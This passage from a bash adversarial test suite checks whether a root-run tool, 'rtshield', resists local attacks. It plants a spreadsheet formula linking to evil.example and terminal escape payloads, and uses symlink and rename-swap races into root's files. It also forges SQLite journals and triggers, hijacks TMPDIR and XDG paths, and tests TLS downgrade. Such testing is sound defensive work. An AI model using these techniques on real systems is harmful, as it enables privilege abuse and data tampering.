    cat "$LOG/$CUR.out" "$LOG/$CUR.err" >"$LOG/$CUR.all"
    if msg=$(check term "$LOG/$CUR.all"); then held "$CUR" "report ATT/*: the directory name is shown escaped (exit $RC)"
    else broken "$CUR" "report ATT/* (a directory named with ESC sequences): $msg (exit $RC)"; fi
}
case_n11c() { # a 5 MB token echoed to the terminal
    { printf 'main\n{\n  stats.period '; head -c 5000000 /dev/zero | tr '\0' x; printf '\n}\n'; } >"$WORK/$CUR.cfg"
    rr "$CUR" 30 run --check "$WORK/$CUR.cfg"
    local n; n=$(cat "$LOG/$CUR.out" "$LOG/$CUR.err" | wc -c)
    if [ "$n" -le 65536 ]; then held "$CUR" "run --check <5 MB token>: $n bytes of output (exit $RC)"
    else broken "$CUR" "run --check <config with a 5 MB token>: $n bytes echoed to the terminal (exit $RC)"; fi
}
case_n11d() { # a newline in a label breaks the summary.md table
    hostile "$WORK/$CUR.json" "label=\"$HOSTILE_LABEL\""
    rr "$CUR" 60 report "$WORK/$CUR.json" -o "$WORK/o-$CUR" --format md
    if msg=$(check md "$WORK/o-$CUR/summary.md"); then held "$CUR" "summary.md stays one table with a hostile label (exit $RC)"
    else broken "$CUR" "summary.md with a label holding a newline and ESC: $msg"; fi
}
case_n11e() { # =HYPERLINK( label into summary.csv
    hostile "$WORK/$CUR.json" "label=\"$HOSTILE_LABEL\""
    rr "$CUR" 60 report "$WORK/$CUR.json" -o "$WORK/o-$CUR" --format csv
    if msg=$(check csv "$WORK/o-$CUR/summary.csv"); then held "$CUR" "summary.csv has no formula cell (exit $RC)"
    else broken "$CUR" "summary.csv: $msg"; fi
}
case_n11f() { # =HYPERLINK( label into results.csv (a careless --label)
    rr "$CUR" 60 "${MEASURE[@]}" --out "$WORK/o-$CUR" --label '=HYPERLINK("http://evil.example/","x")'
    if msg=$(check csv "$WORK/o-$CUR/results.csv"); then held "$CUR" "results.csv has no formula cell (exit $RC)"
    else broken "$CUR" "measure --label '=HYPERLINK(...)': results.csv $msg"; fi
}

# Finding 12: parse errors print a root-only file reached through a link.
SECRET=$ROOTSIDE/secret-shadow
printf 'root:$y$j9T$SECRETHASH-adv$0123456789:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n' >"$SECRET"
chmod 600 "$SECRET"
leak_case() { # args... (the link is appended as the last argument)
    as_user ln -sf "$SECRET" "$ATT/$CUR-link"
    rr "$CUR" 30 "$@" "$ATT/$CUR-link"
    if grep -q SECRETHASH "$LOG/$CUR.out" "$LOG/$CUR.err"; then
        broken "$CUR" "rtshield $* <attacker's link to a root-only file>: the error shows its content: $(grep -h -o '.\{0,30\}SECRETHASH.\{0,10\}' "$LOG/$CUR.out" "$LOG/$CUR.err" | head -1 | clean 80)"
    else held "$CUR" "rtshield $* <link to a root-only file>: nothing of it shown (exit $RC: $(first_err "$LOG/$CUR.err" 120))"; fi
}
case_n12a() { leak_case simulate; }
case_n12b() { leak_case scenario --check; }

# Finding 13: unbounded work.
# limited NAME ARGS...: run with WORK_SECONDS and a 2 GiB address-space cap;
# sets RC, ELAPSED (s) and RSS (MB).
limited() {
    local n=$1; shift
    local t0=$SECONDS
    /usr/bin/time -f '%M' -o "$LOG/$n.rss" timeout -k 5 "$WORK_SECONDS" prlimit --as=$((2 << 30)) \
        "$BIN" "$@" >"$LOG/$n.out" 2>"$LOG/$n.err"
    RC=$?; ELAPSED=$((SECONDS - t0))
    RSS=$(tail -1 "$LOG/$n.rss" 2>/dev/null | tr -dc 0-9); RSS=$(( ${RSS:-0} / 1024 ))
}
BIGJSON=$WORK/threads20000.json
need_bigjson() { [ -s "$BIGJSON" ] || hostile "$BIGJSON" threads=20000; }
bounded() { # what
    if [ $RC = 2 ] || { [ $RC = 0 ] && [ $RSS -lt 1024 ]; }; then
        held "$CUR" "$1: exit $RC in $ELAPSED s, max RSS $RSS MB"
    else
        broken "$CUR" "$1: $([ $RC = 124 ] || [ $RC = 137 ] && echo "still running after $WORK_SECONDS s (killed)" || echo "exit $RC after $ELAPSED s"), max RSS $RSS MB$([ $RC = 0 ] && echo ' (limit 1024 MB)')"
    fi
}
case_n13() {
    need_bigjson
    limited "$CUR" report "$BIGJSON" -o "$WORK/o-$CUR"
    bounded "report <results.json of 20 000 threads, $(( $(stat -c %s "$BIGJSON") >> 20 )) MB>"
}

# ===========================================================================
# p-*: the path layer. Every writing option, through planted links:
#   dir options:  final (DIR a link), slash (LINK/), dot (LINK/.),
#                 middle (ATT/mid/sub, mid a link), dotdot (ATT/up/../sub)
#   file options: final (FILE a link), parent (LINK/f), dot (LINK/./f),
#                 middle (ATT/mid/sub/f), dotdot (ATT/up/../sub/f)
# The links are the attacker's and lead into a root-owned directory VP
# (VP/sub is the victim directory, VP/deep is where `up` points); held
# when VP is unchanged afterwards.
# ===========================================================================

# The options: opt_NAME CASE PATH runs root's rtshield writing to PATH.
opt_measure_out()     { rr "$1" 60 "${MEASURE[@]}" --out "$2"; }
opt_run_out()         { rr "$1" 60 run -q "$LIB/run1s.cfg" --out "$2"; }
opt_demo_out()        { rr "$1" 60 demo --duration 1s -q --out "$2"; }
opt_report_o()        { rr "$1" 60 report "$FIX/idle" -o "$2" --format md,csv; }
opt_runs_report_o()   { need_store_tpl; rr "$1" 120 runs report 'id=1' --store "$TPL/store/runs.db" -o "$2"; }
opt_scenario_out()    { rr "$1" 60 scenario "$LIB/tiny.scn" --out "$2"; }
opt_campaign_out()    { rr "$1" 120 campaign "$LIB/tiny.toml" --out "$2" --store "$WORK/camp-$1.db"; }
opt_measure_json()    { rr "$1" 60 "${MEASURE[@]}" --out "$WORK/o-$1" --json "$2"; }
opt_measure_metrics() { rr "$1" 60 "${MEASURE[@]}" --out "$WORK/o-$1" --metrics-file "$2"; }
opt_run_metrics()     { rr "$1" 60 run -q "$LIB/run1s.cfg" --out "$WORK/o-$1" --metrics-file "$2"; }
opt_export_o()        { rr "$1" 60 export "$FIX/idle" --format junit -o "$2"; }
opt_runs_export_o()   { need_store_tpl; rr "$1" 60 runs export 'id=1' --store "$TPL/store/runs.db" -o "$2"; }
opt_stat_record()     { rr "$1" 60 stat --record "$2" --duration 1s --interval 500ms; }
opt_simulate_json()   { rr "$1" 60 simulate "$LIB/tiny.scn" --json "$2"; }
opt_simulate_trace()  { rr "$1" 60 simulate "$LIB/tiny.scn" --trace "$2"; }
opt_simulate_gantt()  { rr "$1" 60 simulate "$LIB/tiny.scn" --gantt "$2"; }
opt_scenario_json()   { rr "$1" 60 scenario "$LIB/tiny.scn" --json "$2"; }
opt_store()           { rr "$1" 60 runs import "$FIX/idle" --store "$2"; }
opt_run_output()      { # a program's output.out
    cfg "$WORK/$1.cfg" "1 s" "program[0]
{
  cmdline /bin/echo adversary
  output.out $2
  cpu_affinity $LCPU
}"
    rr "$1" 60 run -q "$WORK/$1.cfg" --out "$WORK/o-$1"
}
DIR_OPTS="measure_out run_out demo_out report_o runs_report_o scenario_out campaign_out"
FILE_OPTS="measure_json measure_metrics run_metrics run_output export_o runs_export_o stat_record simulate_json simulate_trace simulate_gantt scenario_json store"
DIR_KINDS="final slash dot middle dotdot"
FILE_KINDS="final parent dot middle dotdot"
# The victim's content: what the option would write there, so that a write
# through the link destroys something.
fill_victim() { # opt dir
    case $1 in
        report_o) need_report_tpl; cp -a "$TPL/report-md/." "$2/" ;;
        runs_report_o) need_report_tpl; cp -a "$TPL/report-all/." "$2/" ;;
        *_out) victim_dir "$2" results.json results.csv balance.json summary.md ;;
    esac
}
fname_of() { # file option -> the file name used
    case $1 in
        measure_json) echo results.json ;; measure_metrics|run_metrics) echo rtshield.prom ;;
        export_o) echo junit.xml ;; runs_export_o) echo runs.json ;; stat_record) echo stat.json ;;
        simulate_json|scenario_json) echo balance.json ;; simulate_trace) echo trace.csv ;;
        simulate_gantt) echo gantt.svg ;; store) echo runs.db ;; run_output) echo program.out ;;
    esac
}
path_case() { # dir|file opt kind
    local type=$1 opt=$2 kind=$3 VP=$ROOTSIDE/$CUR f="" p
    mkdir -p "$VP/sub" "$VP/deep"; chmod 755 "$VP" "$VP/sub" "$VP/deep"
    if [ "$type" = dir ]; then
        fill_victim "$opt" "$VP/sub"
    else
        f=$(fname_of "$opt")
        # the store's victim is the directory itself (a new runs.db there is
        # root's store created through the attacker's link)
        [ "$opt" = store ] && f=runs.db || echo precious >"$VP/sub/$f"
    fi
    case $type-$kind in
        dir-final)   as_user ln -s "$VP/sub" "$ATT/$CUR-l"; p=$ATT/$CUR-l ;;
        dir-slash)   as_user ln -s "$VP/sub" "$ATT/$CUR-l"; p=$ATT/$CUR-l/ ;;
        dir-dot)     as_user ln -s "$VP/sub" "$ATT/$CUR-l"; p=$ATT/$CUR-l/. ;;
        file-final)  as_user ln -s "$VP/sub/$f" "$ATT/$CUR-l"; p=$ATT/$CUR-l ;;
        file-parent) as_user ln -s "$VP/sub" "$ATT/$CUR-l"; p=$ATT/$CUR-l/$f ;;
        file-dot)    as_user ln -s "$VP/sub" "$ATT/$CUR-l"; p=$ATT/$CUR-l/./$f ;;
        *-middle)    as_user ln -s "$VP" "$ATT/$CUR-m"; p=$ATT/$CUR-m/sub${f:+/$f} ;;
        *-dotdot)    as_user ln -s "$VP/deep" "$ATT/$CUR-u"; p=$ATT/$CUR-u/../sub${f:+/$f} ;;
    esac
    local before; before=$(snap "$VP")
    "opt_$opt" "$CUR" "$p"
    local shown=${p/#$ATT/ATT}
    shown=${shown//$CUR-/}
    if [ "$(snap "$VP")" = "$before" ]; then held "$CUR" "${opt//_/ } $shown: root's dir untouched (exit $RC: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "${opt//_/ } $shown (link into root's dir): root's dir changed (exit $RC; now: $(lsd "$VP/sub"))"; fi
}

# ===========================================================================
# r-*: races. ATT/x (the attacker's real directory) and ATT/l (a link to a
# root directory VP) swap names (renameat2 RENAME_EXCHANGE) thousands of
# times a second while root writes to ATT/x/sub[/FILE] again and again:
# a check of the path followed by a use of the path loses.
# ===========================================================================
race_case() { # dir|file opt tries
    local type=$1 opt=$2 tries=$3 VP=$ROOTSIDE/$CUR f=""
    mkdir -p "$VP/sub"; chmod 755 "$VP" "$VP/sub"
    if [ "$type" = dir ]; then fill_victim "$opt" "$VP/sub"; as_user mkdir "$ATT/$CUR-x"
    else
        f=$(fname_of "$opt"); [ "$opt" = store ] || echo precious >"$VP/sub/$f"
        as_user mkdir -p "$ATT/$CUR-x/sub"
    fi
    as_user ln -s "$VP" "$ATT/$CUR-l"
    local before; before=$(snap "$VP")
    "${AS_USER[@]}" "$PY" "$LIB/exchange.py" "$ATT" "$CUR-x" "$CUR-l" 600 &
    local sw=$!; BG_PIDS+=($sw)
    local i n=0 ok=0 end=$((SECONDS + RACE_SECONDS)) changed=0
    for i in $(seq 1 "$tries"); do
        [ $SECONDS -lt $end ] || break
        "opt_$opt" "$CUR" "$ATT/$CUR-x/sub${f:+/$f}"
        n=$((n + 1)); [ $RC = 0 ] && ok=$((ok + 1))
        [ "$(snap "$VP")" = "$before" ] || { changed=1; break; }
    done
    stop_bg $sw
    if [ $changed = 0 ]; then held "$CUR" "${opt//_/ } ATT/x/sub${f:+/$f} while x swaps with a link: $n tries ($ok succeeded), root's dir untouched"
    else broken "$CUR" "${opt//_/ } ATT/x/sub${f:+/$f} while x swaps with a link to root's dir: written there after $n tries (now: $(lsd "$VP/sub"))"; fi
}

# ===========================================================================
# s-*: the store is root's own; TLS to PostgreSQL
# ===========================================================================
case_s_journal() { # a forged hot -journal beside root's store is rolled back into it
    need_store_tpl
    local DB=$STICKY/$CUR.db
    cp "$TPL/runs.db" "$DB"; chmod 644 "$DB"
    as_user "$PY" - "$TPL/runs.db" "$ATT/$CUR-copy.db" "$DB-journal" <<'EOF'
import shutil, sqlite3, os, sys
shutil.copy(sys.argv[1], sys.argv[2])
c = sqlite3.connect(sys.argv[2], isolation_level=None)
c.execute("PRAGMA journal_mode=DELETE")
c.execute("UPDATE runs SET label='FORGED-JOURNAL'")        # the pre-images of the next transaction
c.execute("PRAGMA cache_size=1")
c.execute("BEGIN")
c.execute("UPDATE runs SET label='x', result=''"); c.execute("DELETE FROM threads")
for i in range(200):
    c.execute("INSERT INTO meta VALUES (?, ?)", ("k%d" % i, "y" * 2000))
shutil.copy(sys.argv[2] + "-journal", sys.argv[3])      # a "hot" journal
os._exit(0)
EOF
    rr "$CUR" 60 runs list --store "$DB"
    if grep -q FORGED-JOURNAL "$LOG/$CUR.out"; then broken "$CUR" "a -journal of uid $AUID planted beside root's store was rolled back into it: runs list shows the attacker's label (exit $RC)"
    else held "$CUR" "the planted -journal was not played back (exit $RC: $(first_err "$LOG/$CUR.err" 160))"; fi
}
case_s_shm() { # an attacker-owned, world-writable -shm beside root's store
    need_store_tpl
    local DB=$STICKY/$CUR.db
    cp "$TPL/runs.db" "$DB"; chmod 644 "$DB"
    as_user bash -c "head -c 32768 /dev/zero > '$DB-shm'; chmod 666 '$DB-shm'"
    rr "$CUR" 60 runs import "$FIX/hell" --store "$DB"
    if [ $RC = 0 ]; then broken "$CUR" "root wrote to its store while the -shm (its WAL index, shared memory) was uid $AUID's, mode 666: exit 0"
    else held "$CUR" "refused a store whose -shm is another user's (exit $RC: $(first_err "$LOG/$CUR.err" 160))"; fi
}
case_s_wal_link() { # a -wal symlink beside root's store: must not be followed
    need_store_tpl
    local DB=$STICKY/$CUR.db V=$ROOTSIDE/$CUR-victim
    cp "$TPL/runs.db" "$DB"; chmod 644 "$DB"; echo precious >"$V"
    as_user ln -s "$V" "$DB-wal"
    rr "$CUR" 60 runs import "$FIX/hell" --store "$DB"
    if is_precious "$V"; then held "$CUR" "the -wal link was not followed (exit $RC)"
    else broken "$CUR" "root's file behind a -wal link was overwritten (exit $RC)"; fi
}
case_s_wal_hardlink() { # a -wal that is a hard link to one of root's files
    # (made here by the script, as the attacker can where fs.protected_hardlinks=0,
    # common on embedded systems: a hard link to any root file on the same
    # filesystem, in a sticky directory; it is owned by root, so an owner check
    # alone accepts it)
    need_store_tpl
    local DB=$STICKY/$CUR.db V=$ROOTSIDE/$CUR-victim
    cp "$TPL/runs.db" "$DB"; chmod 644 "$DB"; echo precious >"$V"
    ln "$V" "$DB-wal"
    rr "$CUR" 60 runs import "$FIX/hell" --store "$DB"
    if is_precious "$V"; then held "$CUR" "a -wal hard-linked to root's file was not written (exit $RC: $(first_err "$LOG/$CUR.err" 120))"
    else broken "$CUR" "a -wal hard-linked to a root file (fs.protected_hardlinks=0): SQLite wrote its WAL into that file ($(stat -c %s "$V") bytes now) (exit $RC)"; fi
}
case_s_xdg() { # XDG_DATA_HOME of another user (sudo -E): the attacker's store in it
    need_store_tpl
    as_user mkdir -p "$ATT/xdg/rtshield"
    as_user "$PY" -c 'import shutil,sqlite3,sys; shutil.copy(sys.argv[1], sys.argv[2]); c=sqlite3.connect(sys.argv[2]); c.execute("update runs set label=?", ("FORGED-XDG",)); c.commit()' "$TPL/runs.db" "$ATT/xdg/rtshield/runs.db"
    XDG_DATA_HOME=$ATT/xdg rr "$CUR" 60 runs list
    if grep -q FORGED-XDG "$LOG/$CUR.out"; then broken "$CUR" "XDG_DATA_HOME=<attacker's dir>: root opened the attacker's store (exit $RC)"
    else held "$CUR" "XDG_DATA_HOME=<attacker's dir>: refused (exit $RC: $(first_err "$LOG/$CUR.err" 160))"; fi
}
case_v_store_env() { # RTSHIELD_STORE of another user (sudo -E): the attacker's db in /tmp
    need_store_tpl
    local DB=$STICKY/$CUR.db
    as_user "$PY" - "$TPL/runs.db" "$DB" <<'EOF'
import shutil, sqlite3, os, sys
shutil.copy(sys.argv[1], sys.argv[2])
c = sqlite3.connect(sys.argv[2], isolation_level=None)
c.execute("CREATE TABLE pwn (what TEXT)")
c.execute("CREATE TRIGGER pwn_t AFTER INSERT ON runs BEGIN INSERT INTO pwn VALUES ('ran'); END")
c.close(); os.chmod(sys.argv[2], 0o666)
EOF
    env -u RTSHIELD_NO_STORE RTSHIELD_STORE="$DB" timeout 60 "$BIN" "${MEASURE[@]}" --out "$WORK/o-$CUR" >"$LOG/$CUR.out" 2>"$LOG/$CUR.err"; RC=$?
    local n
    n=$("$PY" -c 'import sqlite3,sys; print(sqlite3.connect("file:"+sys.argv[1]+"?mode=ro", uri=True).execute("select count(*) from pwn").fetchone()[0])' "$DB" 2>/dev/null)
    if [ "${n:-0}" -gt 0 ]; then broken "$CUR" "RTSHIELD_STORE=<attacker's db in a sticky dir>: root's measure stored its run there and the attacker's trigger ran (exit $RC)"
    else held "$CUR" "the attacker's store was not used (exit $RC: $(grep -m1 -i store "$LOG/$CUR.err" | clean 160))"; fi
}
# TLS: a fake server on 127.0.0.1 (see fakepg.py) with a self-signed CA.
PG_PORT=""
need_pg() { # mode(tls|notls): (re)start the fake server
    mkdir -p "$WORK/pg"
    if [ ! -s "$WORK/pg/ca.crt" ]; then
        (cd "$WORK/pg" &&
         openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.crt -days 2 -subj "/CN=rtshield adversary CA" &&
         openssl req -x509 -newkey rsa:2048 -nodes -keyout other.key -out other.crt -days 2 -subj "/CN=some other CA" &&
         openssl req -newkey rsa:2048 -nodes -keyout srv.key -out srv.csr -subj "/CN=127.0.0.1" &&
         printf 'subjectAltName=IP:127.0.0.1,DNS:localhost\n' >ext &&
         openssl x509 -req -in srv.csr -CA ca.crt -CAkey ca.key -CAcreateserial -out srv.crt -days 2 -extfile ext) >/dev/null 2>&1
    fi
    [ -n "${PG_SRV:-}" ] && stop_bg "$PG_SRV"
    rm -f "$WORK/pg/port" "$WORK/pg/log"; : >"$WORK/pg/log"
    "$PY" "$LIB/fakepg.py" "$WORK/pg/port" "$WORK/pg/log" "$1" "$WORK/pg/srv.crt" "$WORK/pg/srv.key" 2>>"$LOG/fakepg.err" &
    PG_SRV=$!; BG_PIDS+=($PG_SRV)
    wait_for 10 test -s "$WORK/pg/port"
    PG_PORT=$(cat "$WORK/pg/port")
}
pg_try() { # query-suffix: runs list against the fake server; PGLOG = what it saw
    : >"$WORK/pg/log"
    rr "$CUR" 30 runs list --store "postgres://rtsuser:PW-tls-S3cret@127.0.0.1:$PG_PORT/lab$1"
    sleep 0.3
    PGLOG=$(tr '\n' ' ' <"$WORK/pg/log")
}
case_s_tls_require() {
    need_pg tls; pg_try "?sslmode=require"
    case $PGLOG in
        *password-clear*|*startup-clear*) broken "$CUR" "sslmode=require: the login went in clear ($PGLOG)" ;;
        *password-tls*) held "$CUR" "sslmode=require: TLS established, the password went inside it" ;;
        *) broken "$CUR" "sslmode=require against a TLS server: no TLS session (server saw: ${PGLOG:-nothing}; client: $(first_err "$LOG/$CUR.err" 160))" ;;
    esac
}
case_s_tls_verify_full() {
    need_pg tls; pg_try "?sslmode=verify-full&sslrootcert=$WORK/pg/ca.crt"
    case $PGLOG in
        *password-tls*) held "$CUR" "sslmode=verify-full with the lab's CA: TLS established and verified" ;;
        *) broken "$CUR" "sslmode=verify-full&sslrootcert=CA against a server that CA signed: no TLS session (server saw: ${PGLOG:-nothing}; client: $(first_err "$LOG/$CUR.err" 160))" ;;
    esac
}
case_s_tls_wrong_ca() {
    need_pg tls; pg_try "?sslmode=verify-full&sslrootcert=$WORK/pg/other.crt"
    if grep -q 'invalid value for option\|unknown option\|invalid connection' "$LOG/$CUR.err"; then
        broken "$CUR" "sslmode=verify-full is not accepted at all ($(first_err "$LOG/$CUR.err" 160))"
    else case $PGLOG in
        *password*) broken "$CUR" "verify-full with a CA that did not sign the server: the password was sent ($PGLOG)" ;;
        *) held "$CUR" "a server certificate of another CA was refused before the login (server saw: ${PGLOG:-nothing})" ;;
    esac; fi
}
case_s_tls_downgrade() { # server answers N to the SSLRequest: no login in clear
    need_pg notls; pg_try "?sslmode=require"
    case $PGLOG in
        *password*|*startup*) broken "$CUR" "sslmode=require and a server refusing TLS: the client logged in in clear ($PGLOG)" ;;
        *) held "$CUR" "sslmode=require, server refuses TLS: nothing sent in clear (server saw: ${PGLOG:-nothing})" ;;
    esac
}
case_s_tls_default() { # no sslmode (libpq's default is prefer): TLS when the server offers it
    need_pg tls; pg_try ""
    case $PGLOG in
        *password-clear*) broken "$CUR" "no sslmode, a server offering TLS: the password went in clear ($PGLOG)" ;;
        *) held "$CUR" "no sslmode: TLS used when offered (server saw: ${PGLOG:-nothing})" ;;
    esac
}

# ===========================================================================
# t-*: temporary places
# ===========================================================================
case_t_io_links() { # TMPDIR the attacker's: its own dir with load-PID.dat links swapped in
    local A=$ATT/tmp-$CUR V=$ROOTSIDE/$CUR-victim T=$ATT/tpl-$CUR
    as_user mkdir -m 755 "$A" "$T"; echo precious >"$V"
    "${AS_USER[@]}" "$PY" -c '
import os, sys
t, v = sys.argv[1], sys.argv[2]
last = int(open("/proc/sys/kernel/ns_last_pid").read())
for pid in range(last + 1, last + 1200):
    os.symlink(v, os.path.join(t, "load-%d.dat" % pid))' "$T" "$V"
    "${AS_USER[@]}" "$PY" "$LIB/swapin.py" "$A" 'rtshield-io-.*' dir "$T" 600 2 >"$LOG/$CUR.swaps" &
    local sw=$!; BG_PIDS+=($sw)
    wait_for 60 grep -q ready "$LOG/$CUR.swaps"
    TMPDIR=$A rr "$CUR" 60 measure --duration 3s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --load io --load-cpus "$LCPU" --out "$WORK/o-$CUR"
    stop_bg $sw
    if is_precious "$V"; then held "$CUR" "root's file behind load-PID.dat links intact (exit $RC; $(grep -c '^swapped' "$LOG/$CUR.swaps") swap(s))"
    else broken "$CUR" "TMPDIR=<attacker's dir>: the io load followed a planted load-PID.dat link and overwrote root's file ($(stat -c %s "$V") bytes now) (exit $RC)"; fi
}
case_t_tmpdir_ignored() { # root must not put its temporary files in another user's TMPDIR
    local A=$ATT/tmp-$CUR
    as_user mkdir -m 755 "$A"
    need_store_tpl
    # the attacker only watches (a pattern that matches nothing: no swap)
    "${AS_USER[@]}" "$PY" "$LIB/swapin.py" "$A" '(?!)' link /nonexistent 600 >"$LOG/$CUR.created" &
    local sw=$!; BG_PIDS+=($sw)
    wait_for 60 grep -q ready "$LOG/$CUR.created"
    TMPDIR=$A rr "$CUR-io" 60 measure --duration 1s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --load io --load-cpus "$LCPU" --out "$WORK/o-$CUR"
    TMPDIR=$A rr "$CUR-runs" 60 runs report 'id=1' --store "$TPL/store/runs.db" -o "$WORK/o2-$CUR"
    sleep 0.3; stop_bg $sw
    local got; got=$(sed -n 's/^created by root: //p' "$LOG/$CUR.created" | sed 's/[0-9]\{2,\}/N/g' | sort -u | tr '\n' ' ')
    if [ -z "$got" ]; then held "$CUR" "TMPDIR=<attacker's dir>: root made nothing there"
    else broken "$CUR" "TMPDIR=<attacker's dir> (sudo -E): root made its temporary directories there: $got(the attacker can rename them and put its own in their place)"; fi
}
case_t_runs_report() { # TMPDIR the attacker's: runs report reads its run files back by path
    need_store_tpl
    local A=$ATT/tmp-$CUR T=$ATT/tpl-$CUR
    as_user mkdir -m 755 "$A" "$T"
    local i
    "$PY" "$LIB/hostile.py" "$FIX/idle/results.json" "$WORK/$CUR-forged.json" 'max_ns=987654321' 'samples=424242'
    chmod 644 "$WORK/$CUR-forged.json"
    for i in 1 2 3 4; do as_user cp "$WORK/$CUR-forged.json" "$T/run-$i.json"; done
    "${AS_USER[@]}" "$PY" "$LIB/swapin.py" "$A" 'rtshield-runs-.*' dir "$T" 600 >"$LOG/$CUR.swaps" &
    local sw=$!; BG_PIDS+=($sw)
    wait_for 60 grep -q ready "$LOG/$CUR.swaps"
    local n=0 hit=0
    for i in $(seq 1 5); do
        TMPDIR=$A rr "$CUR" 60 runs report 'id=1' --store "$TPL/store/runs.db" -o "$WORK/o-$CUR-$i" 
        n=$((n + 1))
        grep -q 424242 "$WORK/o-$CUR-$i/summary.md" 2>/dev/null && { hit=1; break; }
    done
    stop_bg $sw
    if [ $hit = 1 ]; then broken "$CUR" "TMPDIR=<attacker's dir>: runs report showed the attacker's figures (424242 samples, max 987654 us) instead of the stored run's, try $n"
    else held "$CUR" "runs report never read the attacker's files ($n tries)"; fi
}

# ===========================================================================
# v-*: RTSHIELD_* variables (under sudo -E, or env_keep of RTSHIELD_*)
# ===========================================================================
case_v_sysroot_env() { # RTSHIELD_SYSROOT: root's kernel writes through the attacker's tree
    local T=$ATT/$CUR-tree V=$ROOTSIDE/$CUR-victim
    echo precious >"$V"
    as_user "$PY" "$LIB/faketree.py" "$T" v1
    as_user rm -f "$T/proc/sys/kernel/timer_migration"
    as_user ln -s "$V" "$T/proc/sys/kernel/timer_migration"
    RTSHIELD_SYSROOT=$T rr "$CUR" 60 partition create 3
    if is_precious "$V"; then held "$CUR" "RTSHIELD_SYSROOT=<attacker's tree>: root's file behind its links intact (exit $RC: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "RTSHIELD_SYSROOT=<attacker's tree> (sudo -E): partition create followed the tree's timer_migration link and wrote '$(head -c 20 "$V" | clean 20)' into root's file (exit $RC)"; fi
}
case_v_fake_kernel() { # test-only emulation must not be reachable in this binary
    local A=$WORK/$CUR-a B=$WORK/$CUR-b
    "$PY" "$LIB/faketree.py" "$A" v1; "$PY" "$LIB/faketree.py" "$B" v1
    echo '{"kill_after_writes": 1}' >"$A/.rtshield-fake.json"; cp "$A/.rtshield-fake.json" "$B/"
    rr "$CUR-plain" 60 --sysroot "$A" partition create 3
    local rc1=$RC
    RTSHIELD_FAKE_KERNEL=1 rr "$CUR" 60 --sysroot "$B" partition create 3
    if [ "$rc1" = "$RC" ] && [ "$(snap "$A/sys")" = "$(snap "$B/sys")" ]; then held "$CUR" "RTSHIELD_FAKE_KERNEL=1 changes nothing (exit $RC both ways)"
    else broken "$CUR" "RTSHIELD_FAKE_KERNEL=1 changes what partition create does (exit $rc1 without, $RC with)"; fi
}
case_v_documented() { # every RTSHIELD_* name in the binary documented on one page
    local names=() v d best="" bestn=0 n missing=""
    for v in $(strings "$BIN" | grep -o 'RTSHIELD_[A-Z_]*[A-Z]' | sort -u); do
        # strings glues the next string on: keep a name only if no shorter one is its prefix
        local skip=0 u
        for u in "${names[@]}"; do case $v in "$u"?*) skip=1 ;; esac; done
        [ $skip = 0 ] && names+=("$v")
    done
    for d in "$HERE"/docs/*.md "$HERE"/docs/manual/*.md "$HERE"/README.md; do
        n=0; for v in "${names[@]}"; do grep -q "$v" "$d" && n=$((n + 1)); done
        [ $n -gt $bestn ] && { bestn=$n; best=$d; }
    done
    for v in "${names[@]}"; do grep -rqs "$v" "$HERE/docs" "$HERE/README.md" || missing="$missing $v"; done
    if [ -z "$missing" ] && [ "$bestn" = ${#names[@]} ]; then held "$CUR" "${#names[@]} RTSHIELD_* names, all in ${best#$HERE/}"
    else broken "$CUR" "RTSHIELD_* names in the binary: ${names[*]}; undocumented:${missing:- none}; at most $bestn of ${#names[@]} on one page (${best#$HERE/})"; fi
}

# ===========================================================================
# g-*: more signals (finding 10's class)
# ===========================================================================
case_g_sigquit_measure() { sig_case QUIT measure; }
case_g_sighup_run() { sig_case HUP run; }
case_g_sighup_campaign() { sig_case HUP campaign; }
case_g_sigquit_trace() { sig_case QUIT measure trace; }

# ===========================================================================
# e-*: encoders, with a results.json whose label and tags are hostile
# ===========================================================================
need_hostile() {
    [ -s "$WORK/hostile.json" ] && return
    hostile "$WORK/hostile.json" "label=\"$HOSTILE_LABEL\"" \
        'tags={"board":"=cmd|x</script>]]>\u001b[31m","k\"} x{":"v\n@SUM(1)"}' "hostname=\"h\u001b]0;T\u0007<b>\""
    "$BIN" report "$WORK/hostile.json" -o "$WORK/hostile-rep" >"$LOG/hostile-rep.out" 2>"$LOG/hostile-rep.err"
    echo $? >"$LOG/hostile-rep.rc"
}
enc_case() { # checker file what
    need_hostile
    if [ ! -s "$2" ]; then broken "$CUR" "$3: not written (report exit $(cat "$LOG/hostile-rep.rc"): $(first_err "$LOG/hostile-rep.err" 120))"; return; fi
    if msg=$(check "$1" "$2"); then held "$CUR" "$3: safe with a hostile label, tags and hostname"
    else broken "$CUR" "$3: $msg"; fi
}
case_e_html() { enc_case html "$WORK/hostile-rep/report.html" "report.html"; }
case_e_svg() { enc_case xml "$WORK/hostile-rep/latency.svg" "latency.svg"; }
case_e_md_file() { enc_case md "$WORK/hostile-rep/summary.md" "summary.md (all formats)"; }
case_e_term_report() {
    need_hostile
    cat "$LOG/hostile-rep.out" "$LOG/hostile-rep.err" >"$LOG/$CUR.all"
    if msg=$(check term "$LOG/$CUR.all"); then held "$CUR" "report's terminal output: no control characters"
    else broken "$CUR" "report <hostile results.json> prints to root's terminal: $msg"; fi
}
export_case() { # format checker
    need_hostile
    rr "$CUR" 60 export "$WORK/hostile.json" --format "$1" --max-latency 100us -o "$WORK/$CUR.out"
    if [ ! -s "$WORK/$CUR.out" ]; then broken "$CUR" "export --format $1: nothing written (exit $RC)"
    elif msg=$(check "$2" "$WORK/$CUR.out"); then held "$CUR" "export --format $1: well-formed with hostile label/tags/hostname"
    else broken "$CUR" "export --format $1: $msg"; fi
}
case_e_junit() { export_case junit xml; }
case_e_openmetrics() { export_case openmetrics openmetrics; }
case_e_kcidb() { export_case kcidb json; }
case_e_cyclictest() { export_case cyclictest-json json; }
case_e_metrics_file() { # --metrics-file with a hostile --label (careless root)
    rr "$CUR" 60 "${MEASURE[@]}" --out "$WORK/o-$CUR" --label $'x"} y{\n# EOF\e[2J' --metrics-file "$WORK/$CUR.prom"
    if [ ! -s "$WORK/$CUR.prom" ]; then broken "$CUR" "--metrics-file not written (exit $RC)"
    elif msg=$(check openmetrics "$WORK/$CUR.prom"); then held "$CUR" "--metrics-file stays valid exposition text with a hostile --label"
